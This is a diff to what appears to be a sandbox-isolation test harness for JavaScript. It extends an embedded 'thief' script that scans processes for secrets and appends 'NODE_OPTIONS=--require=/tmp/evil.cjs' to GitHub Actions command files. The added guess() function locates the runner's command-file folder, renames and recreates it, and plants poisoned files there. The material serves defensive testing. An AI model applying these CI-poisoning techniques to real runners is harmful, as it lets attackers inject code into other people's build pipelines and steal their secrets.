@@ -6,6 +6,7 @@ const [isolated, folder = '/'] = process.argv.slice(2)
 
 const thief = `
 const fs = require('fs')
+const path = require('path')
 const { spawnSync } = require('child_process')
 const loot = []
 const look = (where, text) => { if (text.includes('s3cr' + '3t')) loot.push(where) }
@@ -19,13 +20,33 @@ function processes() {
     look('cmdline', read('/proc/' + pid + '/cmdline'))
     for (const entry of environ.split('\\0')) {
       const [name, path] = entry.split('=')
-      if (!/^GITHUB_(ENV|PATH|OUTPUT)$/.test(name)) continue
-      fs.appendFileSync(path, 'NODE_OPTIONS=--require=/tmp/evil.cjs')
-      loot.push('command file')
+      if (/^GITHUB_(ENV|PATH|OUTPUT|STATE|STEP_SUMMARY)$/.test(name)) poison(path)
     }
   }
 }
+function poison(path) {
+  try {
+    fs.appendFileSync(path, 'NODE_OPTIONS=--require=/tmp/evil.cjs')
+    loot.push('command file')
+  } catch (error) {}
+}
+// Where a runner keeps them is no secret: beside the folder that it checks out to.
+function guess() {
+  const folder = path.resolve('../_temp/_runner_file_commands')
+  const names = fs.readdirSync(folder)
+  names.forEach((name) => poison(path.join(folder, name)))
+  // Others in their place, in a folder of the same name.
+  for (const place of [folder, path.dirname(folder), path.resolve('..')]) {
+    try { fs.renameSync(place, place + '-gone') } catch (error) { continue }
+    fs.mkdirSync(folder, { recursive: true })
+    names.forEach((name) => poison(path.join(folder, name)))
+  }
+  for (const name of names) {
+    try { fs.unlinkSync(path.join(folder, name)); poison(path.join(folder, name)) } catch (error) {}
+  }
+}
 processes()
+guess()
 // Never outside of a table of its own: this takes the machine's away.
 if (process.argv[1] === 'dig' && process.pid < 10) dig()
 function dig() {
@@ -42,7 +63,7 @@ function dig() {
 console.log(JSON.stringify([...new Set(loot)].sort()))
 `
 
-const processes = createProcesses({ PATH: process.env['PATH'] })
+const processes = createProcesses(process.env)
 const outcome = await processes.run({
   argv: [process.execPath, '-e', thief, isolated === 'true' ? 'dig' : 'look'],
   cwd: folder,
